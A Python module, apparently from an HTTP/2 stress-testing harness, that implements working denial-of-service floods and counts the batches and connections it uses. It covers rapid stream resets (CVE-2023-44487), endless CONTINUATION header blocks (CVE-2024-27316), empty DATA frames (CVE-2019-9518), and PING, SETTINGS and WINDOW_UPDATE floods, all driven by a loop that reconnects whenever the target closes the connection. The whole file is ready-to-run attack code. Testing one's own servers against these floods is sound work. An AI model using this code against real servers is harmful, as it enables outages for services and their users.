"""Floods of small things, on connections that are opened anew whenever the proxy closes them."""

import itertools
import select
import ssl
import time
from collections.abc import Callable, Iterator

import frames
from frames import frame
from held import Answers, Stop
from target import Refused, Target

Batch = Callable[[Target], Iterator[bytes]]


def resets(target: Target) -> Iterator[bytes]:
    """Streams that are reset as soon as they are begun (CVE-2023-44487)."""
    block = frames.request("GET", "/", target.host)
    for first in itertools.count(1, 200):
        yield b"".join(
            frame(frames.HEADERS, frames.END_STREAM | frames.END_HEADERS, stream, block)
            + frame(frames.RST_STREAM, 0, stream, (8).to_bytes(4, "big"))
            for stream in range(first, first + 200, 2)
        )


def continuations(target: Target) -> Iterator[bytes]:
    """One field block that never ends (CVE-2024-27316)."""
    yield frame(frames.HEADERS, frames.END_STREAM, 1, frames.request("GET", "/", target.host))
    more = frame(frames.CONTINUATION, 0, 1, frames.literal("x-flood", "z" * 1000))
    while True:
        yield more * 16


def empty_continuations(target: Target) -> Iterator[bytes]:
    """The same, with frames that hold nothing."""
    yield frame(frames.HEADERS, frames.END_STREAM, 1, frames.request("GET", "/", target.host))
    while True:
        yield frame(frames.CONTINUATION, 0, 1) * 1000


def pings(_: Target) -> Iterator[bytes]:
    while True:
        yield frame(frames.PING, 0, 0, b"01234567") * 500


def settings(_: Target) -> Iterator[bytes]:
    while True:
        yield frames.settings((frames.INITIAL_WINDOW_SIZE, 65_535)) * 500


def empty_data(target: Target) -> Iterator[bytes]:
    """DATA frames of one stream that hold nothing (CVE-2019-9518)."""
    yield frame(frames.HEADERS, frames.END_HEADERS, 1, frames.request("POST", "/body", target.host))
    while True:
        yield frame(frames.DATA, 0, 1) * 1000


def window_updates(target: Target) -> Iterator[bytes]:
    """A window that is opened byte by byte, under a request that nobody answers."""
    yield frame(frames.HEADERS, frames.END_HEADERS, 1, frames.request("POST", "/body", target.host))
    while True:
        yield frame(frames.WINDOW_UPDATE, 0, 1, (1).to_bytes(4, "big")) * 500


def flood(target: Target, stop: Stop, batches: Batch) -> Answers:
    """Sends as fast as it can, and reads nothing but the end of the connection. Counts batches and connections."""
    answers, context = Answers(), target.context("h2")
    while not stop.is_set():
        try:
            with target.dial(target.source, context) as connection:
                answers["connections"] += 1
                connection.settimeout(1)
                connection.sendall(frames.PREFACE + frames.settings((frames.HEADER_TABLE_SIZE, 0)))
                for batch in batches(target):
                    connection.sendall(batch)
                    answers["batches"] += 1
                    if stop.is_set():
                        break
                    while select.select([connection], [], [], 0)[0] and connection.recv(1 << 16):
                        pass
        except TimeoutError:
            answers["not read any more"] += 1
        except (Refused, OSError, ssl.SSLError, ValueError):
            answers["closed"] += 1
            time.sleep(0.001)
    return answers
